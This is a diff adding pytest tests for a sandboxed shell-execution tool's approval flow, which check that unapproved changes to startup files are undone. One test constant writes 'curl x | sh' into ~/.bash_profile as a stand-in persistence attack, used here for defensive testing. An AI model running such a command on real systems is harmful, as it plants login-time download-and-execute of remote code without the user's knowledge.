@@ -166,6 +166,50 @@ async def test_always_approves_the_rule_for_that_program_only(home: Home, mode: 
     assert answers.count("accept (always, earlier)") == 2
 
 
+PLANT = "python3 -c \"import os; open(os.path.expanduser('~/.bash_profile'), 'w').write('curl x | sh')\""
+
+
+@pytest.mark.skipif(NO_SANDBOX is not None, reason=NO_SANDBOX or "")
+@pytest.mark.parametrize("mode", ERAS)
+async def test_in_the_sandbox_an_approved_change_to_what_runs_later_is_kept(home: Home, mode: str) -> None:
+    """A person who approves a change to what runs later saw the whole command: the sandbox's
+    after-command check leaves it in place (else it would put back what the person said yes to)."""
+    person = Person([("accept", {"always": False}), ("accept", {"always": False})])
+    async with serving(home, mode, person, WSL_SANDBOX="on") as client:
+        ran = await _exec(client, f"echo '{PATH_LINE}' >> ~/.bashrc")
+        assert not ran.is_error and "[sandbox] undone" not in _text(ran), _text(ran)
+        hooks = await _exec(client, "git -C proj init -q && git -C proj config core.hooksPath .githooks")
+        assert not hooks.is_error and "[sandbox] undone" not in _text(hooks), _text(hooks)
+        assert "Allow wsl_exec to do this once, still in the sandbox?" in person.asked[0].message
+        # unasked, a change made at run time is still put back after the command
+        planted = await _exec(client, PLANT)
+        assert "[sandbox] undone: ~/.bash_profile" in _text(planted), _text(planted)
+    assert home.bashrc() == BASHRC + PATH_LINE + "\n"
+    assert "hooksPath = .githooks" in (home.path / "proj" / ".git" / "config").read_text()
+    assert not (home.path / ".bash_profile").exists()
+
+
+@pytest.mark.skipif(NO_SANDBOX is not None, reason=NO_SANDBOX or "")
+async def test_in_the_sandbox_always_never_covers_a_change_to_what_runs_later(home: Home) -> None:
+    """``always`` for what runs later would let a later command the person never saw keep a change
+    made at run time beside the approved one; under the sandbox it is not offered, and asked again."""
+    plant = f"echo again >> ~/.bashrc; {PLANT}"
+    async with serving(home, "legacy", Person([("accept", {"always": True})] * 2)) as client:
+        await _exec(client, f"echo '{PATH_LINE}' >> ~/.bashrc")
+        reached = await _exec(client, plant)  # without the sandbox, always covers it: unasked, kept
+        assert not reached.is_error
+    assert (home.path / ".bash_profile").exists()  # the harm, reached
+    (home.path / ".bash_profile").unlink()
+    person = Person([("accept", {"always": True}), ("decline", None)])
+    async with serving(home, "legacy", person, WSL_SANDBOX="on") as client:
+        first = await _exec(client, f"echo '{PATH_LINE}' >> ~/.bashrc")
+        assert not first.is_error, _text(first)
+        assert "always" not in person.asked[0].requested_schema.get("properties", {})
+        second = await _exec(client, plant)
+        assert second.is_error and len(person.asked) == 2, _text(second)
+    assert not (home.path / ".bash_profile").exists()
+
+
 @pytest.mark.parametrize("mode", ERAS)
 async def test_hard_denies_are_never_asked(home: Home, mode: str) -> None:
     person = Person()
